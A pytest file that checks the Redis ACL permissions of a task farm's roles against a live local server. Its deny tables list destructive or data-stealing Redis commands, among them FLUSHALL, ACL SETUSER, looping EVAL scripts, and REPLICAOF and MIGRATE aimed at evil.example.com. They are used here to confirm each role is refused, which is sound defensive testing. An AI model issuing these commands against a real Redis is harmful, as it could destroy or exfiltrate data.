"""What each Redis role can do and can't, asked of a real Redis command by command.

One file: the tables of what each role may and may not do are most of it, and two tests read their rows.
"""

from __future__ import annotations

import os
import subprocess
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
import redis
from redis.exceptions import NoPermissionError

from fleet.hosts.redis_acl import Role, is_host_name, user_of_host, users_file
from fleet.local.redis_server import free_port
from tasks.broker.handshake import Refusal, announce, process_refusal
from tasks.messages import (
    COORDINATOR_KEY,
    HOSTS_KEY,
    JOBS_QUEUE,
    RELEASE_KEY,
    RESULTS_STREAM,
    SLOTS_KEY,
    STATEMENTS_KEY,
    WORKERS_KEY,
)
from tests.support.redis_server import binary

_PASSWORDS = {role: f"secret-of-{role.value}" for role in Role}


@pytest.fixture(scope="module")
def port(tmp_path_factory: pytest.TempPathFactory) -> Iterator[int]:
    """A Redis that knows the farm's roles, and the host `garage`."""
    server = binary()
    folder = tmp_path_factory.mktemp("roles")
    users = folder / "users.acl"
    users.write_text(users_file(_PASSWORDS, {"garage": "secret-of-garage"}), encoding="utf-8")
    port = free_port()
    options = ["--port", str(port), "--bind", "127.0.0.1", "--save", "", "--dir", str(folder), "--aclfile", str(users)]
    process = subprocess.Popen([server, *options], stdout=subprocess.DEVNULL, env={"PATH": os.defpath})
    try:
        _wait(port)
        yield port
    finally:
        process.terminate()
        process.wait(10)


def _wait(port: int) -> None:
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline:
        try:
            with client_of(port, Role.HEALTH) as client:
                client.execute_command("PING")
        except redis.ConnectionError:
            time.sleep(0.05)
        else:
            return
    raise AssertionError("redis-server did not take the users file")


def client_of(port: int, role: Role) -> redis.Redis:
    return redis.Redis(port=port, username=role.value, password=_PASSWORDS[role])


#: what anyone could ruin a farm with
_NEVER: tuple[tuple[Any, ...], ...] = (
    ("FLUSHALL",),
    ("FLUSHDB",),
    ("CONFIG", "GET", "*"),
    ("CONFIG", "SET", "maxmemory", "1"),
    ("ACL", "LIST"),
    ("ACL", "SETUSER", "intruder"),
    ("KEYS", "*"),
    ("SCAN", "0"),
    ("SHUTDOWN",),
    ("DEBUG", "SLEEP", "0"),
    ("MONITOR",),
    ("CLIENT", "KILL", "ID", "1"),
    ("SAVE",),
    ("BGREWRITEAOF",),
    ("REPLICAOF", "evil.example.com", "6379"),
    ("MODULE", "LIST"),
    ("FUNCTION", "LIST"),
    ("MIGRATE", "evil.example.com", "6379", "neonet.jobs.1", "0", "10"),
    ("GET", "somebody-elses-key"),
)
_WORKER_NEVER: tuple[tuple[Any, ...], ...] = (
    *_NEVER,
    ("CLIENT", "LIST"),
    ("XRANGE", RESULTS_STREAM, "-", "+"),
    ("XREAD", "STREAMS", RESULTS_STREAM, "0"),
    ("XREADGROUP", "GROUP", "coordinator", "intruder", "STREAMS", RESULTS_STREAM, ">"),
    ("XACK", RESULTS_STREAM, "coordinator", "0-1"),
    ("XDEL", RESULTS_STREAM, "0-1"),
    ("XTRIM", RESULTS_STREAM, "MAXLEN", "0"),
    ("DEL", RESULTS_STREAM),
    ("EXPIRE", RESULTS_STREAM, "1"),
    ("SET", RELEASE_KEY, "{}"),
    ("HSET", HOSTS_KEY, "garage", "pause"),
    ("HDEL", HOSTS_KEY, "garage"),
    ("HGETALL", HOSTS_KEY),
    ("DEL", HOSTS_KEY),
    ("PEXPIRE", HOSTS_KEY, "1"),
    ("PUBLISH", "/0.celery.pidbox", "shutdown"),
    ("GET", COORDINATOR_KEY),
    ("SET", COORDINATOR_KEY, "x"),
    ("DEL", COORDINATOR_KEY),
    ("PEXPIRE", COORDINATOR_KEY, "1"),
    ("EVAL", "return redis.call('SET', KEYS[1], 'x')", "1", COORDINATOR_KEY),
    ("GET", WORKERS_KEY),
    ("DEL", WORKERS_KEY),
    ("PEXPIRE", WORKERS_KEY, "1"),
    ("HGETALL", SLOTS_KEY),
    ("HDEL", SLOTS_KEY, "garage"),
    ("DEL", SLOTS_KEY),
    ("HGETALL", STATEMENTS_KEY),
    ("HDEL", STATEMENTS_KEY, "garage"),
    ("EVAL", "return redis.call('XRANGE', 'neonet.results', '-', '+')", "0"),
    ("EVAL", "return redis.call('FLUSHALL')", "0"),
    ("EVAL", "while true do end", "0"),
    ("SCRIPT", "LOAD", "return 1"),
    ("DEL", JOBS_QUEUE),
    ("UNLINK", JOBS_QUEUE),
    ("SET", JOBS_QUEUE, "x"),
    ("EXPIRE", JOBS_QUEUE, "1"),
    ("PEXPIRE", JOBS_QUEUE, "1"),
    ("RENAME", JOBS_QUEUE, "unacked"),
    ("LTRIM", JOBS_QUEUE, "1", "0"),
    ("ZADD", JOBS_QUEUE, "1", "x"),
    ("SET", "unacked", "x"),
    ("DEL", "unacked"),
    ("SET", "_kombu.binding.neonet.jobs.1", "x"),
    ("HGETALL", "unacked"),
    ("EVAL", "return redis.call('PUBLISH', '/0.celery.pidbox', 'x')", "0"),
    # answers of other workers to Flower
    ("DEL", "some-id.reply.celery.pidbox"),
    ("LLEN", "some-id.reply.celery.pidbox"),
    ("BRPOP", "some-id.reply.celery.pidbox", "1"),
    ("SADD", "_kombu.binding.reply.celery.pidbox", "x"),
    ("SREM", "_kombu.binding.reply.celery.pidbox", "x"),
    ("SMEMBERS", "_kombu.binding.neonet.jobs.1"),
    ("LPUSH", "worker@attic.celery.pidbox", "x"),
    ("SREM", "_kombu.binding.neonet.jobs.1", "x"),
    ("CLIENT", "NO-EVICT", "on"),
)
_FLOWER_NEVER: tuple[tuple[Any, ...], ...] = (
    *_NEVER,
    ("CLIENT", "LIST"),
    ("BRPOP", JOBS_QUEUE, "1"),
    ("RPOP", JOBS_QUEUE),
    ("LPUSH", JOBS_QUEUE, "x"),
    ("DEL", JOBS_QUEUE),
    ("HGETALL", "unacked"),
    ("HGET", "unacked", "x"),
    ("XADD", RESULTS_STREAM, "*", "a", "b"),
    ("XRANGE", RESULTS_STREAM, "-", "+"),
    ("GET", RELEASE_KEY),
    ("SET", WORKERS_KEY, "x"),
    ("GET", COORDINATOR_KEY),
    ("SET", COORDINATOR_KEY, "x"),
    ("EVAL", "return redis.call('DEL', KEYS[1])", "1", COORDINATOR_KEY),
    ("EVAL", "while true do end", "0"),
    ("EVALSHA", "0" * 40, "0"),
    ("SCRIPT", "LOAD", "return 1"),
    ("FCALL", "x", "0"),
)
_DENIED = [
    *((Role.COORDINATOR, command) for command in _NEVER),
    *((Role.WORKER, command) for command in _WORKER_NEVER),
    *((Role.FLOWER, command) for command in _FLOWER_NEVER),
    *((Role.RENEWAL, command) for command in _NEVER if command[:2] != ("CONFIG", "SET")),
    *((Role.HEALTH, command) for command in (*_NEVER, ("CLIENT", "LIST"), ("LLEN", JOBS_QUEUE), ("INFO",))),
]
_ALLOWED: list[tuple[Role, tuple[Any, ...]]] = [
    (Role.COORDINATOR, ("LPUSH", JOBS_QUEUE, "job")),
    (Role.COORDINATOR, ("SET", RELEASE_KEY, "{}")),
    (Role.COORDINATOR, ("XLEN", RESULTS_STREAM)),
    (Role.COORDINATOR, ("CLIENT", "LIST")),
    (Role.WORKER, ("BRPOP", JOBS_QUEUE, "1")),
    (Role.WORKER, ("LPUSH", JOBS_QUEUE, "a job given back")),
    (Role.WORKER, ("SET", "unacked_mutex", "", "NX", "EX", "4")),
    (Role.WORKER, ("XADD", RESULTS_STREAM, "*", "task", "t")),
    (Role.WORKER, ("GET", RELEASE_KEY)),
    (Role.WORKER, ("SET", WORKERS_KEY, "garage", "PX", "4000")),
    (Role.WORKER, ("HSET", SLOTS_KEY, "garage", "4 1 7")),
    (Role.WORKER, ("PEXPIRE", SLOTS_KEY, "60000")),
    (Role.WORKER, ("HSET", STATEMENTS_KEY, "garage", "{}")),
    (Role.WORKER, ("PEXPIRE", STATEMENTS_KEY, "60000")),
    (Role.COORDINATOR, ("HGETALL", STATEMENTS_KEY)),
    (Role.COORDINATOR, ("HDEL", STATEMENTS_KEY, "garage")),
    (Role.COORDINATOR, ("PTTL", WORKERS_KEY)),
    (Role.COORDINATOR, ("HGETALL", SLOTS_KEY)),
    (Role.COORDINATOR, ("HDEL", SLOTS_KEY, "garage")),
    (Role.COORDINATOR, ("PEXPIRE", WORKERS_KEY, "4000")),
    (Role.WORKER, ("PUBLISH", "/0.celeryev/worker.heartbeat", "x")),
    (Role.FLOWER, ("LLEN", JOBS_QUEUE)),
    (Role.FLOWER, ("PUBLISH", "/0.celery.pidbox", "ping")),
    (Role.HEALTH, ("PING",)),
]


def _named(value: object) -> str:
    return value.value if isinstance(value, Role) else " ".join(str(part) for part in value)[:50]  # type: ignore[attr-defined]


@pytest.mark.parametrize(("role", "command"), _DENIED, ids=_named)
def test_a_role_is_denied_what_is_not_its_own(port: int, role: Role, command: tuple[Any, ...]) -> None:
    with (
        client_of(port, role) as client,
        pytest.raises(redis.ResponseError, match=r"permission|ACL failure|can't|not allowed"),
    ):
        client.execute_command(*command)


@pytest.mark.parametrize(("role", "command"), _ALLOWED, ids=_named)
def test_a_role_may_do_its_work(port: int, role: Role, command: tuple[Any, ...]) -> None:
    with client_of(port, role) as client:
        client.execute_command(*command)


def test_nobody_gets_in_without_a_password(port: int) -> None:
    with redis.Redis(port=port) as client, pytest.raises(redis.AuthenticationError):
        client.ping()


def test_another_host_has_the_rights_of_a_worker_and_a_user_of_its_own(port: int) -> None:
    with redis.Redis(port=port, username=user_of_host("garage"), password="secret-of-garage") as client:
        client.xadd(RESULTS_STREAM, {"task": "t"})
        with pytest.raises(NoPermissionError):
            client.xrange(RESULTS_STREAM)


def test_a_worker_of_another_wire_version_is_told_which_release_is_wanted(port: int) -> None:
    url = f"redis://worker:{_PASSWORDS[Role.WORKER]}@127.0.0.1:{port}/0"
    with client_of(port, Role.COORDINATOR) as client:
        client.set(RELEASE_KEY, '{"release": "9.8.7", "wire": 99}')
    reason = process_refusal(url, as_worker=True)
    assert reason is not None
    assert "release 9.8.7" in reason.reason
    assert announce(f"redis://coordinator:{_PASSWORDS[Role.COORDINATOR]}@127.0.0.1:{port}/0") is None
    assert process_refusal(url, as_worker=True) is None


@pytest.mark.parametrize("ask", [announce, lambda url: process_refusal(url, as_worker=True)])
def test_a_wrong_password_is_said_without_repeating_it(port: int, ask: Callable[[str], Refusal | None]) -> None:
    reason = ask(f"redis://worker:guess-me@127.0.0.1:{port}/0")
    assert reason is not None
    assert "Redis refuses this role" in reason.reason
    assert "guess-me" not in reason.reason
    assert not reason.permanent


@pytest.mark.parametrize("name", ["", "-a", "a-", "A", "a b", "a/b", "../x", "a" * 33, "ä"])
def test_a_name_that_is_no_hosts_is_refused(name: str) -> None:
    assert not is_host_name(name)


def test_the_users_file_holds_no_password(tmp_path: Path) -> None:
    path = tmp_path / "users.acl"
    path.write_text(users_file(_PASSWORDS, {"garage": "secret-of-garage"}), encoding="utf-8")
    assert "secret-of" not in path.read_text(encoding="utf-8")
